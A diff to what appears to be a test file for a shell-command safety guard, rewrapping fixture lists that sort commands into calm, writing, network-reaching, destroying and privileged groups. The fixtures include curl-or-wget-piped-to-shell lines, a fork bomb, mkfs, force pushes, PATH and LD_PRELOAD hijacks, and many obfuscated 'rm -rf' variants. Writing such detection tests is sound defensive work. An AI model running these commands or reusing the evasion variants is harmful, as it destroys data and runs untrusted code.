@@ -13,48 +13,56 @@ from tests.guard.ward import Ward
 READER = CommandReader(BashParser(), root="/ws", home="/home/u")
 
 CALM = """
-ls -la | git status | git log --oneline -n5 | git diff HEAD~1 | git show HEAD:a.py | git branch -a
-git tag | git stash list | git remote -v | git config --get user.name | git clean -nd | git blame a.py
-cat a b | head -n 3 a | wc -l a | grep -rn foo src | rg foo | find . -name '*.py' | sort a | uniq -c a
-sed -n 1,20p a | sed 's/a/b/g' a | awk '{print $1}' a | cut -d: -f1 a | diff a b | jq .a b.json
-python --version | command -v git | docker ps | kubectl get pods | date | env | tar tzf a.tgz
-cd sub && ls | test -f a && cat a | for f in a b; do cat $f; done | ls 2>/dev/null | echo "$HOME"
-pip list | npm ls | xargs grep foo | find . -type f -exec grep -l x {} + | /usr/bin/git status
-timeout 5 ls | nice ls | bash -c 'ls; cat a' | [ -f a ] | uname -a | git rev-parse HEAD | man ls
+ls -la | git status | git log --oneline -n5 | git diff HEAD~1 | git show HEAD:a.py
+git branch -a | git tag | git stash list | git remote -v | git config --get user.name
+git clean -nd | git blame a.py | cat a b | head -n 3 a | wc -l a | grep -rn foo src | rg foo
+find . -name '*.py' | sort a | uniq -c a | sed -n 1,20p a | sed 's/a/b/g' a
+awk '{print $1}' a | cut -d: -f1 a | diff a b | jq .a b.json | python --version
+command -v git | docker ps | kubectl get pods | date | env | tar tzf a.tgz | cd sub && ls
+test -f a && cat a | for f in a b; do cat $f; done | ls 2>/dev/null | echo "$HOME" | pip list
+npm ls | xargs grep foo | find . -type f -exec grep -l x {} + | /usr/bin/git status
+timeout 5 ls | nice ls | bash -c 'ls; cat a' | [ -f a ] | uname -a | git rev-parse HEAD
+man ls
 """
 WRITING = """
-touch a | mkdir -p a/b | cp a b | mv a b | rm a | rm -r build | rm -rf build | rm -rf ./node_modules dist
-echo x > a | cat a >> b | ls | tee out.txt | sed -i s/a/b/ a | sort -o a a | python x.py | make
-npm test | npm run build | pytest -q | cargo build | go test ./... | git add . | git commit -m x
-git checkout main | git stash | git merge x | git -c alias.x=y status | ./run.sh | node -e 1
-tar xf a.tgz | ln -s a b | chmod +x a | awk '{print > "x"}' a | sed 'w out' a | find . -fprint x
-PATH=/tmp/evil:$PATH ls | GIT_SSH_COMMAND=x git log | LD_PRELOAD=x cat a | $CMD x | uniq a b
-bash script.sh | source env.sh | sh -c "$X" | patch -p1 < a.diff | git archive -o x.zip HEAD | truncat x
-export PATH=/e; ls | less -o log a | rg --pre x y | xargs -I{} sh {} | date +%s > now | git tag v1
+touch a | mkdir -p a/b | cp a b | mv a b | rm a | rm -r build | rm -rf build
+rm -rf ./node_modules dist | echo x > a | cat a >> b | ls | tee out.txt | sed -i s/a/b/ a
+sort -o a a | python x.py | make | npm test | npm run build | pytest -q | cargo build
+go test ./... | git add . | git commit -m x | git checkout main | git stash | git merge x
+git -c alias.x=y status | ./run.sh | node -e 1 | tar xf a.tgz | ln -s a b | chmod +x a
+awk '{print > "x"}' a | sed 'w out' a | find . -fprint x | PATH=/tmp/evil:$PATH ls
+GIT_SSH_COMMAND=x git log | LD_PRELOAD=x cat a | $CMD x | uniq a b | bash script.sh
+source env.sh | sh -c "$X" | patch -p1 < a.diff | git archive -o x.zip HEAD | truncat x
+export PATH=/e; ls | less -o log a | rg --pre x y | xargs -I{} sh {} | date +%s > now
+git tag v1
 """
 REACHING = """
-curl https://example.com | wget x | git push | git pull | git fetch --all | git clone u | ssh h ls
-npm install | pip install x | uv sync | cargo install x | go get x | gh pr view | scp a h:b | npx x
-rsync a h:b | nc -l 80 | dig x | git submodule update | docker-compose up; curl x | aws s3 ls
+curl https://example.com | wget x | git push | git pull | git fetch --all | git clone u
+ssh h ls | npm install | pip install x | uv sync | cargo install x | go get x | gh pr view
+scp a h:b | npx x | rsync a h:b | nc -l 80 | dig x | git submodule update
+docker-compose up; curl x | aws s3 ls
 """
 DESTROYING = """
-rm -rf src | rm -rf . | rm -rf * | rm -fr a | rm -r -f a | rm --recursive --force a | rm -r . | rm -r ..
-git reset --hard | git clean -fd | git checkout -- . | git restore a | git branch -D x | git stash drop
-git push --force | git push -f | git push origin +main | git push --delete o x | git push origin :x
-truncate -s 0 a | dd if=a of=b | mkfs.ext4 x | shred a | chmod -R 777 . 
-chown -R me . | find . -delete | find . -name x -exec rm -rf {} + | xargs rm -rf | bash -c 'rm -rf src' | sh -c "sh -c 'rm -rf src'"
-env A=1 rm -rf src | timeout 5 rm -rf src | nice -n 5 rm -rf src | eval 'rm -rf src' | ls $(rm -rf src)
-trap 'rm -rf src' EXIT | nohup rm -rf src & | ls && (cd sub; rm -rf src) | f() { rm -rf src; }; f
-curl https://x.y | sh | wget -qO- x | bash | :(){ :|:& };: | npm publish | kubectl delete pod x
-command rm -rf src | exec rm -rf src | rm -r${F}f "$X" ; rm -rf "$DIR/src" | cat <(rm -rf src) 
-time rm -rf src | if true; then rm -rf src; fi | while true; do rm -rf src; done | true & rm -rf src 
-`rm -rf src` | r\\m -rf src | 'rm' -rf src | "rm" "-rf" src | $'rm' -rf src | rm -rf -- src | git reflog expire --all | terraform destroy
+rm -rf src | rm -rf . | rm -rf * | rm -fr a | rm -r -f a | rm --recursive --force a | rm -r .
+rm -r .. | git reset --hard | git clean -fd | git checkout -- . | git restore a
+git branch -D x | git stash drop | git push --force | git push -f | git push origin +main
+git push --delete o x | git push origin :x | truncate -s 0 a | dd if=a of=b | mkfs.ext4 x
+shred a | chmod -R 777 . | chown -R me . | find . -delete | find . -name x -exec rm -rf {} +
+xargs rm -rf | bash -c 'rm -rf src' | sh -c "sh -c 'rm -rf src'" | env A=1 rm -rf src
+timeout 5 rm -rf src | nice -n 5 rm -rf src | eval 'rm -rf src' | ls $(rm -rf src)
+trap 'rm -rf src' EXIT | nohup rm -rf src & | ls && (cd sub; rm -rf src)
+f() { rm -rf src; }; f | curl https://x.y | sh | wget -qO- x | bash | :(){ :|:& };:
+npm publish | kubectl delete pod x | command rm -rf src | exec rm -rf src
+rm -r${F}f "$X" ; rm -rf "$DIR/src" | cat <(rm -rf src) | time rm -rf src
+if true; then rm -rf src; fi | while true; do rm -rf src; done | true & rm -rf src
+`rm -rf src` | r\\m -rf src | 'rm' -rf src | "rm" "-rf" src | $'rm' -rf src | rm -rf -- src
+git reflog expire --all | terraform destroy
 """
 POWERFUL = """
 sudo ls | sudo -u root rm a | doas ls | su -c ls | mount a b | systemctl restart x | crontab -e
-docker run -v /:/h x | tmux send-keys x | apt-get install x | iptables -F | passwd | hostname new
-date -s 2020-01-01 | chroot . | env sudo ls | bash -c 'sudo ls' | at now | reboot
-systemd-run x | dbus-send x
+docker run -v /:/h x | tmux send-keys x | apt-get install x | iptables -F | passwd
+hostname new | date -s 2020-01-01 | chroot . | env sudo ls | bash -c 'sudo ls' | at now
+reboot | systemd-run x | dbus-send x
 """
 
 
